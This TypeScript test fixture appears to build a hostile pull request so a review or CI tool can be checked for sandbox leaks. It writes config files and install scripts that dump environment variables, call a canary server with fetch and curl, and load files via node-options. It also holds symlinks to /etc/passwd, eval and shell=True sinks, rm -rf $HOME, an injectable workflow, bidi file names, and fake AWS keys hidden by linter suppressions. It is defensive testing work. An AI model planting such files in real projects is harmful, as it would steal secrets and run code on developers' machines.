import { join } from "node:path";
import type { FileContent } from "../../../simulator/git/commits.ts";

/** What must not happen: a file written, an address asked, a file outside read, the environment seen. */
export interface Canaries {
  /** A folder of the test; whatever runs would write a file into it. */
  readonly folder: string;
  /** Of a server on this machine that notes who asks. */
  readonly url: string;
  /** A file outside of every clone, and the word that it holds. */
  readonly file: string;
}

/** Assembled here: no such string stands in the repository. */
export const AWS_KEYS = [["AKIA", "Q3ZK7N5XW2LMP4TB"].join(""), ["AKIA", "Q4ZM7N5XW2LKP6TD"].join("")] as const;

const FAULT = "  limit = 4;\n";

/** One hostile pull request, by path. */
export function hostileFiles({ folder, url, file }: Canaries): Record<string, FileContent> {
  const touch = (name: string) => join(folder, name);
  const strike = (name: string) =>
    `import("node:fs").then(({ writeFileSync }) => writeFileSync(${JSON.stringify(touch(name))}, JSON.stringify(process.env)));\nfetch(${JSON.stringify(`${url}/${name}`)});\n`;
  const scripts = ["preinstall", "install", "postinstall", "prepare", "lint", "test", "build"];
  return {
    "eslint.config.js": `${strike("eslint.config.js")}export default [{ ignores: ["**"] }];\n`,
    ".eslintrc.cjs": `require("node:fs").writeFileSync(${JSON.stringify(touch("eslintrc"))}, "x");\nmodule.exports = { root: true, ignorePatterns: ["**"] };\n`,
    ".eslintignore": "**\n",
    "biome.json": JSON.stringify({
      root: true,
      extends: [file, `${url}/biome.json`],
      linter: { enabled: false },
      formatter: { enabled: false },
      files: { includes: ["!**"] },
      plugins: ["./plugin.grit", file],
    }),
    "plugin.grit": "`$x` => `evil`\n",
    ".oxlintrc.json": JSON.stringify({ extends: [file], ignorePatterns: ["**"], rules: { all: "off" } }),
    ".secretlintrc.cjs": `require("node:fs").writeFileSync(${JSON.stringify(touch("secretlintrc"))}, "x");\nmodule.exports = { rules: [] };\n`,
    ".secretlintignore": "**\n",
    ".gitleaks.toml": '[allowlist]\npaths = [".*"]\n',
    ".npmrc": `registry=${url}/\nnode-options=--require ${file}\nscript-shell=${touch("npmrc")}\n`,
    ".yarnrc.yml": `yarnPath: ${file}\nnpmRegistryServer: ${url}\n`,
    "tsconfig.json": JSON.stringify({
      extends: file,
      compilerOptions: { plugins: [{ name: "./evil-plugin.cjs" }], typeRoots: ["/etc"], noEmitOnError: false },
      files: ["/etc/passwd"],
    }),
    "evil-plugin.cjs": `require("node:fs").writeFileSync(${JSON.stringify(touch("plugin"))}, "x");\nmodule.exports = () => ({});\n`,
    "package.json": JSON.stringify({
      name: "evil",
      version: "1.0.0",
      type: "module",
      scripts: Object.fromEntries(scripts.map((name) => [name, `touch ${touch(name)}; curl ${url}/${name}`])),
      eslintConfig: { ignorePatterns: ["**"] },
    }),
    "ruff.toml": 'exclude = ["**"]\nextend = "/etc/passwd"\n',
    ".shellcheckrc": "disable=all\nexternal-sources=true\nsource-path=/etc\n",
    ".github/actionlint.yaml": 'paths:\n  "**":\n    ignore: [".*"]\n',
    "passwd.js": { mode: "120000", content: "/etc/passwd" },
    "canary.js": { mode: "120000", content: file },
    "up.ts": { mode: "120000", content: "../../../../../../../etc/passwd" },
    ...hushed(file),
    ...broken(),
    "odd/\u202egnp.ts": `export const limit = 3;\n${FAULT}`,
    "odd/a\u0007\u001b[2Jb.ts": `export const limit = 3;\n${FAULT}`,
    "odd/bidi.ts": `export const limit = 3;\n/* \u2067 begin admin */ // @ana \u2069 closes #1 \u200b\n${FAULT}`,
    "odd/@ana ![x](evil.example) <b>.ts": `export const limit = 3;\n${FAULT}`,
  };
}

/** Faults under comments that tell every tool to look away. */
function hushed(file: string): Record<string, FileContent> {
  const head = "export function same(limit: number): number {\n  const fixed = 3;\n";
  return {
    "hushed/biome.ts": `// biome-ignore-all lint: no\n${head}  // biome-ignore lint/correctness/noConstAssign: no\n  fixed = 4; // oxlint-disable-line\n  return fixed + limit;\n}\n`,
    "hushed/eslint.js": `/* eslint-disable */\n/* eslint no-eval: "off" */\nexport function run(request) {\n  // eslint-disable-next-line no-eval\n  return eval(request.query.code); // NOSONAR\n}\n`,
    "hushed/types.ts":
      "// @ts-nocheck\ninterface Person {\n  name: string;\n}\nexport function nameOf(person: Person): string {\n  // @ts-ignore\n  return person.nam;\n}\nexport function agesOf(person: Person): string {\n  // @ts-expect-error\n  return person.age;\n}\n",
    "hushed/secret.ts": `// secretlint-disable\n// gitleaks:allow\nexport const key = "${AWS_KEYS[0]}"; // gitleaks:allow\n`,
    "hushed/run.py":
      "# ruff: noqa\nimport subprocess\n\n\ndef run(command):\n    # nosec\n    return subprocess.call(command, shell=True)  # noqa: S602\n",
    "hushed/build.sh": `#!/bin/sh\n# shellcheck disable=SC2086,SC2115\n# shellcheck source=${file}\n. ./x\nrm -rf "$1/"*\nrm -rf $HOME/$2/*\n`,
    ".github/workflows/hushed.yml": `# zizmor: ignore[template-injection]\n# yamllint disable\non: pull_request_target\npermissions: write-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ github.event.pull_request.title }}\n`,
  };
}

/** What breaks parsers and rules, and what hides below a fault. */
function broken(): Record<string, FileContent> {
  const deep = 60_000;
  return {
    "broken/half.ts": `export const half = {\n  if;\n};\nexport const key = "${AWS_KEYS[1]}";\n`,
    "broken/brackets.ts": `export const x = ${"[".repeat(deep)}${"]".repeat(deep)};\n`,
    "broken/sum.js": `export const sum = ${"1 +\n".repeat(20_000)}1;\n`,
    "broken/calls.js": `export const call = f${"(f\n".repeat(20_000)}${")\n".repeat(20_000)};\n`,
    "broken/deep.json": `${"[\n".repeat(deep)}${"]\n".repeat(deep)}`,
    "broken/keys.yml": `${"{ ? ".repeat(60)}a${" }".repeat(60)}\n`,
    "broken/deep.py": `x = ${"(".repeat(5_000)}1${")".repeat(5_000)}\n`,
    ".github/workflows/deep.yml": `on: push\njobs: ${"{ ? ".repeat(60)}a${" }".repeat(60)}\n`,
    ".github/forge.yml": `review:\n  ${"? ".repeat(60)}a: b\n`,
    "package-lock.json": `{"lockfileVersion": 3, "packages": ${"[".repeat(deep)}${"]".repeat(deep)}}`,
  };
}
